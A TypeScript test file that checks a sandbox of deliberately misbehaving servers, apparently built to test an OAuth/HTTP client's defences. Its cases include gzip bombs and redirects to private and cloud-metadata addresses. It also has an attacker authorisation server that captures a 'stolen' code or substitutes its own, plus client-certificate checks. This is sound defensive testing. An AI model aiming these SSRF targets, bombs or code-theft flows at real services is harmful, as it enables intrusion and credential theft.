import { X509Certificate } from 'node:crypto'
import { request as httpsRequest, type RequestOptions } from 'node:https'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import forge from 'node-forge'
import { browseAuthorisation } from '@/tests/sandbox/browse-authorisation'
import { known } from '@/tests/sandbox/known'
import { startSandbox, type Sandbox } from '@/tests/sandbox/sandbox'
import type { TestCertificates } from '@/tests/sandbox/tls/certificates'
import { authoriseUrl } from './minimal-client'

let sandbox: Sandbox
let certificates: TestCertificates
beforeAll(async () => {
  sandbox = await startSandbox()
  certificates = await sandbox.control.getCertificates()
})
afterAll(() => sandbox.close())

const misbehaving = (how: string, init: RequestInit = {}) =>
  fetch(`${sandbox.url}/misbehaving/${how}`, { redirect: 'manual', ...init })

describe('the misbehaving third party', () => {
  it.each(['never-answers', 'slow-drip'])('%s: the response never ends', async (how) => {
    const reading = misbehaving(how, { signal: AbortSignal.timeout(1500) }).then((response) => response.text())
    await expect(reading).rejects.toThrow('timeout')
  })

  it('sends 50 MB', async () => {
    const response = await misbehaving('fifty-megabytes')
    expect((await response.arrayBuffer()).byteLength).toBe(50 * 1024 * 1024)
  })

  it('sends a small response that decompresses to a very large one', async () => {
    const response = await misbehaving('gzip-bomb')
    expect(response.headers.get('content-encoding')).toBe('gzip')
    let bytes = 0
    for await (const chunk of response.body!) if ((bytes += chunk.length) > 60 * 1024 * 1024) break
    expect(bytes).toBeGreaterThan(60 * 1024 * 1024)
  })

  it.each([
    ['redirect-private', 'http://169.254.169.254/latest/meta-data/'],
    ['redirect-private?to=ten', 'http://10.0.0.1/'],
    ['redirect-private?to=loopback', 'http://127.0.0.1:1/'],
    ['redirect-loop', '/misbehaving/redirect-loop'],
  ])('%s', async (how, location) => {
    expect((await misbehaving(how)).headers.get('location')).toBe(location)
  })

  it('redirects to another origin, which records what arrives', async () => {
    await fetch(`${sandbox.url}/misbehaving/redirect-other-origin`, { headers: { 'x-mark': 'here' } })
    const [arrived] = await sandbox.control.getRequests({ server: 'evil', path: '/collect' })
    expect(arrived?.headers['x-mark']).toBe('here')
  })

  it.each(['gibberish', 'disconnect'])('%s: sends no complete HTTP response', async (how) => {
    await expect(misbehaving(how).then((response) => response.text())).rejects.toThrow()
  })
})

describe('the attacker’s authorisation server', () => {
  it('redirects the browser to the honest one, whose response names the honest issuer', async () => {
    const honestUrl = new URL(authoriseUrl(sandbox, 'basic'))
    const callback = new URL(await browseAuthorisation(`${sandbox.evilUrl}/authorize${honestUrl.search}`))
    expect(callback.searchParams.get('iss')).toBe(`${sandbox.url}/oauth`)
    expect(callback.searchParams.get('code')).toBeTruthy()
  })

  it('records a code that reaches it', async () => {
    await fetch(`${sandbox.evilUrl}/token`, { method: 'POST', body: new URLSearchParams({ code: 'stolen' }) })
    const [arrived] = await sandbox.control.getRequests({ server: 'evil', path: '/token' })
    expect(arrived?.body).toBe('code=stolen')
  })

  it('returns its own code if asked to', async () => {
    await sandbox.control.setEvilMode({ mode: 'own_code' })
    const response = await fetch(
      `${sandbox.evilUrl}/authorize?redirect_uri=http://localhost:1/oauth/authenticate&state=s`,
      { redirect: 'manual' },
    )
    expect(new URL(response.headers.get('location')!).searchParams.get('iss')).toBe(sandbox.evilUrl)
  })
})

describe('the server that demands a client certificate', () => {
  const get = (options: RequestOptions) =>
    new Promise<number>((resolve, reject) => {
      const request = httpsRequest(`${sandbox.tlsUrl}/orders`, options, (response) => {
        response.resume()
        resolve(response.statusCode ?? 0)
      })
      request.on('error', reject).end()
    })

  it('serves the API to a client of its authority', async () => {
    const { caPem, clientPem, clientKeyPem } = certificates
    expect(await get({ ca: caPem, cert: clientPem, key: clientKeyPem })).toBe(200)
    const wrongPassword = { authorization: `Basic ${Buffer.from('acme-api:wrong').toString('base64')}` }
    expect(await get({ ca: caPem, cert: clientPem, key: clientKeyPem, headers: wrongPassword })).toBe(401)
  })

  it('refuses a missing certificate, one of another authority, and an expired one', async () => {
    const { caPem, wrongClientPem, wrongClientKeyPem, expiredPem, expiredKeyPem } = certificates
    await expect(get({ ca: caPem })).rejects.toThrow()
    await expect(get({ ca: caPem, cert: wrongClientPem, key: wrongClientKeyPem })).rejects.toThrow()
    await expect(get({ ca: caPem, cert: expiredPem, key: expiredKeyPem })).rejects.toThrow()
  })

  it('is not trusted without its authority', async () => {
    const { clientPem, clientKeyPem, wrongCaPem } = certificates
    await expect(get({ cert: clientPem, key: clientKeyPem })).rejects.toThrow()
    await expect(get({ ca: wrongCaPem, cert: clientPem, key: clientKeyPem })).rejects.toThrow()
  })

  it('issues matching certificates', () => {
    const client = new X509Certificate(certificates.clientPem)
    expect(client.verify(new X509Certificate(certificates.caPem).publicKey)).toBe(true)
    const file = forge.pkcs12.pkcs12FromAsn1(
      forge.asn1.fromDer(forge.util.decode64(certificates.clientPkcs12Base64)),
      known.pkcs12Passphrase,
    )
    expect(file.safeContents.length).toBeGreaterThan(0)
  })

  it('provides them as files', async () => {
    const response = await fetch(`${sandbox.url}/__control/certificates/clientPem`)
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="client.pem"')
    expect(await response.text()).toBe(certificates.clientPem)
  })
})
